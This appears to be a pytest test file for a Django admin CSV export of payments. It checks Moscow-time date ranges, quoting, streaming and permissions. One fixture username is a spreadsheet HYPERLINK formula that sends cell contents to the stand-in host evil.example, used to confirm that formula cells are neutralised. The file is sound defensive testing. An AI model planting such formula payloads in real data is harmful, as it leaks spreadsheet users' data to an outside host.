"""CSV export of payments for a date range, with Django's test client, on both backends: the
range in the community's days, RFC 4180 quoting, cells a spreadsheet would run as formulas
neutralised, a streamed answer, and the view permission on payments."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pytest

from tests.integration.web.logins import log_in

URL = "/admin/domain/payment/export/"
NASTY_USERNAME = '=HYPERLINK("http://evil.example/?"&A1,"Нажми")'
DESCRIPTION = 'Подписка "Месяц", оплата\nчерез СБП; 2-я попытка'


@pytest.fixture(scope="module")
def payments(domain_db: Any) -> dict[str, int]:
    """Payments around the range 2026-03-02..2026-03-03 in Moscow time (UTC+3)."""
    db = domain_db
    tariff = db.fetchval(
        "INSERT INTO tariffs (code, title, price_minor, period_days) VALUES ('month', 'Месяц',"
        " 150050, 30) RETURNING id"
    )
    plain = db.fetchval(
        "INSERT INTO users (telegram_id, username) VALUES (9101, 'anna') RETURNING id"
    )
    nasty = db.fetchval(
        "INSERT INTO users (telegram_id, username) VALUES (9102, ?) RETURNING id",
        (NASTY_USERNAME,),
    )
    ids = {}
    for key, user, created, status, paid, description in (
        # 23:59 on March 1st in Moscow: outside.
        ("before", plain, datetime(2026, 3, 1, 20, 59, tzinfo=UTC), "pending", None, None),
        # 00:30 on March 2nd in Moscow, though still March 1st in UTC: inside.
        (
            "first",
            plain,
            datetime(2026, 3, 1, 21, 30, tzinfo=UTC),
            "succeeded",
            datetime(2026, 3, 1, 21, 31, tzinfo=UTC),
            None,
        ),
        ("nasty", nasty, datetime(2026, 3, 2, 12, 0, tzinfo=UTC), "canceled", None, DESCRIPTION),
        # 23:59:59 on March 3rd in Moscow: inside.
        ("last", plain, datetime(2026, 3, 3, 20, 59, 59, tzinfo=UTC), "pending", None, "+7 999"),
        # 00:00 on March 4th in Moscow: outside.
        ("after", plain, datetime(2026, 3, 3, 21, 0, tzinfo=UTC), "pending", None, None),
    ):
        ids[key] = db.fetchval(
            "INSERT INTO payments (idempotence_key, provider_payment_id, user_id, tariff_id,"
            " kind, amount_minor, status, paid_at, created_at, description,"
            " cancellation_reason) VALUES (?, ?, ?, ?, 'first', 150050, ?, ?, ?, ?, ?)"
            " RETURNING id",
            (
                f"exp-{key}",
                f"yk-{key}",
                user,
                tariff,
                status,
                paid,
                created,
                description,
                "general_decline" if status == "canceled" else None,
            ),
        )
    return ids


def download(client: Any, **params: str) -> tuple[Any, list[list[str]]]:
    response = client.get(URL, {"first": "2026-03-02", "last": "2026-03-03", **params})
    assert response.status_code == 200
    assert response.streaming
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(
        csv.reader(io.StringIO(body[1:], newline=""), delimiter=params.get("delimiter", ","))
    )
    return response, rows


def test_the_range_is_of_local_days_both_ends_included(
    client: Any, payments: dict[str, int]
) -> None:
    response, rows = download(client)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response["Content-Disposition"]
        == 'attachment; filename="payments_2026-03-02_2026-03-03.csv"'
    )
    header, *data = rows
    assert header[:4] == ["id", "created_at (Europe/Moscow)", "paid_at (Europe/Moscow)", "status"]
    assert [int(row[0]) for row in data] == [payments["first"], payments["nasty"], payments["last"]]
    first = dict(zip(header, data[0], strict=True))
    assert first["created_at (Europe/Moscow)"] == "2026-03-02 00:30:00"
    assert first["paid_at (Europe/Moscow)"] == "2026-03-02 00:31:00"
    assert (first["amount"], first["currency"], first["tariff"]) == ("1500.50", "RUB", "month")
    assert (first["telegram_id"], first["username"], first["provider_payment_id"]) == (
        "9101",
        "anna",
        "yk-first",
    )


def test_quoting_and_formula_cells(client: Any, payments: dict[str, int]) -> None:
    _, rows = download(client)
    header, *data = rows
    nasty = dict(zip(header, data[1], strict=True))
    # Read back whole: quotes, the comma, the newline and the semicolon survive the quoting.
    assert nasty["description"] == DESCRIPTION
    assert nasty["cancellation_reason"] == "general_decline"
    # A spreadsheet would run these: each starts with a quote instead.
    assert nasty["username"] == "'" + NASTY_USERNAME
    last = dict(zip(header, data[2], strict=True))
    assert last["description"] == "'+7 999"


def test_semicolons_for_a_russian_excel(client: Any, payments: dict[str, int]) -> None:
    _, rows = download(client, delimiter=";")
    header, *data = rows
    assert len(header) == len(data[0]) == 13
    assert dict(zip(header, data[1], strict=True))["description"] == DESCRIPTION


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+79990000000", "'+79990000000"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("плюс=", "плюс="),
        (1500, "1500"),
        (None, ""),
    ],
)
def test_safe_cell(django_env: Any, value: Any, cell: str) -> None:
    from services.web.domain.export import safe_cell

    assert safe_cell(value) == cell


def test_the_form_and_a_bad_range(client: Any, payments: dict[str, int]) -> None:
    page = client.get("/admin/domain/payment/")
    assert f'href="{URL}"' in page.content.decode()
    form = client.get(URL)
    assert form.status_code == 200
    assert not form.streaming
    assert 'id="payment_export"' in form.content.decode()
    backwards = client.get(URL, {"first": "2026-03-05", "last": "2026-03-01"})
    assert not backwards.streaming
    assert "Начало диапазона позже конца." in backwards.content.decode()
    assert "errorlist" in client.get(URL, {"first": "март", "last": ""}).content.decode()


def test_export_needs_the_view_permission_on_payments(payments: dict[str, int]) -> None:
    from django.contrib.auth import get_user_model
    from django.contrib.auth.models import Permission
    from django.test import Client

    from services.web.bootstrap import create_staff

    params = {"first": "2026-03-02", "last": "2026-03-03"}
    for username, codenames, status in (
        ("export_none", ("view_member",), 403),
        ("export_viewer", ("view_payment",), 200),
    ):
        create_staff(username, "correct-horse-battery")
        user = get_user_model().objects.get(username=username)
        user.user_permissions.set(Permission.objects.filter(codename__in=codenames))
        client = Client()
        assert log_in(client, username, "correct-horse-battery")
        assert client.get(URL, params).status_code == status, username


@pytest.mark.parametrize(
    ("first", "last"),
    [("9999-12-31", "9999-12-31"), ("0001-01-01", "0001-01-02")],
)
def test_dates_at_the_calendars_edge_are_a_form_error_not_a_cut_download(
    client: Any, payments: dict[str, int], first: str, last: str
) -> None:
    """9999-12-31 had no next day (500); 0001-01-01 had no UTC form, and on SQLite the download
    began (200, the header) and broke after it."""
    response = client.get(URL, {"first": first, "last": last})
    assert response.status_code == 200
    assert not response.streaming
    assert "Даты вне допустимого диапазона." in response.content.decode()
